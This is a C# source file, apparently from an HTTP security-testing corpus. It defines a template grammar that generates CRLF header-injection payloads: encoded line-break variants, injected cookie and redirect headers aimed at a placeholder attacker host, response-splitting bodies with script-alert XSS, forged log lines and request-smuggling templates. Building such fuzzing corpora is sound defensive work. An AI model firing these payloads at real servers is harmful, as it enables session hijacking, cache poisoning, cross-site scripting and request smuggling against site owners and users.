namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Line breaks that add headers, split a response, forge a log line or smuggle a request.</summary>
/// <remarks>OWASP WSTG-INPV-15 to 17, CAPEC-34, CAPEC-105, CAPEC-33, CWE-93, CWE-113, CWE-117, CWE-444; RFC 9112.</remarks>
internal static class HeaderInjection
{
    public const string Text = """"
        §crlf
        4× «phrase»«¦?¦?»«hardbreak»«header»
        3× «phrase»«¦?»«hardbreak»«cookiehead»«¦«hardbreak»»
        «word»«¦?»«hardbreak»«cookiehead»
        4× /«crlfpre»«oddbreak»«header»
        2× «crlfpre»«oddbreak»«header»
        2× «bareline2»
        «clead»«oddbreak»«oddbreak»«htmlbody»
        «clead»«nlpart»«nlpart»«htmlbody→url»
        «clead»«nlpart»Content«-¦»Type:«hsp»text/html;«hsp»charset=UTF-7«nlpart»«nlpart»+ADw-«script¦html»+AD4-
        «clead»«nlpart»«logline»
        §logline
        2× «INFO¦WARN¦ERROR¦DEBUG»«:¦ -»«hsp»«user ¦login ¦»«word» «logged in¦granted¦authenticated successfully¦logged out¦deleted»
        20«#10-26»-0«#1-9»-«#10-28» «#10-23»:«#10-59»:«#10-59» «INFO¦ERROR» «word» «logged in¦admin access granted»
        «ip» - - [«#10-28»/Oct/20«#10-26»:«#10-23»:«#10-59»:«#10-59» +0000] "GET /«word» HTTP/1.1" 200 «num»
        «word»: Failed password for root from «ip» port «port» ssh2
        §crlfpre
        4×
        2× «word»
        %3f
        %23
        ?
        #
        «num»
        %2e%2e%2f
        «word»=«word»
        «httplit»://«word».«tld»/
        %2f%2e%2e
        www.«letter*4-8».«tld»/
        §oddbreak
        3× %0a
        3× %0d
        3× %0d%0a
        2× %250a
        2× %25250a
        2× %250d%250a
        %25%30%61
        %25%30a
        %%30%61
        %%0a0a
        %25%30%64%25%30%61
        %0%0d%0ad%0%0d%0aa
        %0d%0d%0a%0a
        %u000a
        %u000d%u000a
        %c4%8d%c4%8a
        %e5%98%8a%e5%98%8d
        %0d%09
        %0d%0a%09
        %0d%20
        %20%0d%0a
        \r\n
        \n
        \r
        %5cr%5cn
        0x0d0x0a
        0x0D0x0A
        %23%0d%0a
        %3f%0d%0a
        %23%0a
        %3f%0d
        %2f%2e%2e%0d%0a
        §bareline2
        %0d%0a
        %0D%0A%0D%0A
        %0d%0d%0a%0a
        %0%0d%0ad%0%0d%0aa
        \r\n«¦\r\n»
        0x0D0x0A
        %5cr%5cn
        %E5%98%8A%E5%98%8D
        %u000d%u000a
        8× «clead»«nlpart»«header»
        3× «clead»«nlpart»«header»«nlpart»«header»
        4× «clead»«nlpart»«nlpart»«htmlbody»
        3× «clead»«nlpart»Content-Length:«hsp»«#0-99»«nlpart»«nlpart»«¦HTTP/1.1 200 OK«nlpart»Content-Type: text/html«nlpart»«¦Content-Length: «#10-99»«nlpart»»«nlpart»«htmlbody»»
        2× «clead»«nlpart»HTTP/1.«0¦1»«hsp2»200«hsp2»OK«nlpart»«header»«nlpart»«nlpart»«htmlbody»
        2× «httplit»://«evilhost»/«nlpart»«header»
        /«nlpart»«header»
        «httplit»://«word».com/%3f«nlpart»«header»
        «clead»%23«nlpart»«header»
        «clead»«unicrlf»«header→url»
        «clead»«nlpart»«fold»«header»
        «clead»«nlpart»«nlpart»
        {"«param»":"«word»\r\n«header»"}
        «param»=«word»«nlpart»«header»
        §hardbreak
        4× ␍␤
        3× ␤
        2× %0d%0a
        %0a
        §cookiehead
        «Set-Cookie¦Set-cookie¦set-cookie¦SET-COOKIE»:«hsp»«name1»=«¦«#1-9999999»»«#1-9999999»«#1-9999999»
        «Set-Cookie¦Set-cookie»:«hsp»«word»=«rand»«¦; path=/»
        «Set-Cookie¦Set-cookie»:«hsp»«rand»=«num»
        §unicrlf
        «%E5%98%8A%E5%98%8D¦%u000d%u000a¦\u560a\u560d¦%c4%8d%c4%8a¦%u010d%u010a¦嘊嘍¦čĊ¦%25%30%64%25%30%61¦%0%0d%0a¦%250d%250a»
        §fold
        ␠
        ␉
        %20
        %09
        §nlpart
        8× %0d%0a
        3× %0D%0A
        4× ␍␤
        3× %0a
        2× ␤
        %0d
        \r\n
        %250d%250a
        %25%30a
        %%0a0a
        %u000a
        %3f%0d%0a
        %23%0d%0a
        %E5%98%8A%E5%98%8D
        \n
        %00%0d%0a
        ␍
        %20%0d%0a
        %3f%0d
        &#13;&#10;
        \u000d\u000a
        §hsp
        ␠
        %20
        +
        §hsp2
        ␠
        %20
        §clead
        4× «phrase»
        2× «phrase»?
        4×
        3× «word»
        2× /
        «num»
        «httplit»://«word».com/
        /«word»
        «word».com
        text/html
        en
        «rand»
        ?
        §header
        6× Set-Cookie:«hsp»«word»=««rand»¦1»«¦;path=/¦; domain=.«word».com»
        3× Location:«hsp»«evilurl»
        2× X-««word»¦Injected¦Header¦Test¦Custom»:«hsp»«rand»
        2× Content-Type:«hsp»text/html«¦;charset=utf-7»
        X-XSS-Protection:«hsp»0
        Content-Length:«hsp»«#0-99»
        Refresh:«hsp»0;url=«evilurl»
        Access-Control-Allow-Origin:«hsp»«*¦http://«evilhost»»
        Link:«hsp»<«evilurl»>;rel=stylesheet
        Host:«hsp»«evilhost»
        «word»:«hsp»«word»
        Transfer-Encoding:«hsp»chunked
        Last-Modified:«hsp»Mon, 27 Oct 2060 14:50:18 GMT
        crlf«¦injection»:«hsp»«rand»
        header:header
        Set-Cookie«¦:crlf=injection¦%20:«rand»=1»
        §htmlbody
        <script>alert(«#1-9»)</script>
        <html>«word»</html>
        <svg«¦%20¦ »onload=alert(«¦document.»«1¦domain¦cookie»)>
        %3Cscript%3Ealert(1)%3C/script%3E
        <h1>«rand»</h1>
        <img src=x onerror=alert(1)>
        §smuggle
        3× 0␍␤␍␤«GET¦POST»«smugpath» HTTP/1.1␍␤Host: «localhost¦«evilhost»¦127.0.0.1»␍␤«X: x¦Foo: x¦X-Ignore: X¦Content-Length: «#1-99»␍␤␍␤x=»
        Transfer-Encoding«¦X»«: xchunked¦ : chunked¦:␉chunked¦: xchunked¦:␋chunked¦: chunked␍␤Transfer-Encoding: «x¦identity¦cow»»
        «#1-9»␍␤«letter*1-9»␍␤0␍␤␍␤«GET¦POST» «smugpath» HTTP/1.1␍␤«word»: «word»
        «word»␍␤␍␤«GET¦POST¦PUT¦DELETE» «smugpath» HTTP/1.1␍␤Host: «evilhost»
        %20HTTP/1.1%0d%0a«Host:%20«evilhost»¦X:%20«rand»»%0d%0a%0d%0a«GET%20/«word»%20HTTP/1.1¦»
        «num»%20HTTP/1.1%0D%0A«header→url»%0D%0A
        §smugpath
        ␠/«admin¦404¦post/comment¦«word»»
        ␠«http://«evilhost»»/
        """";
}
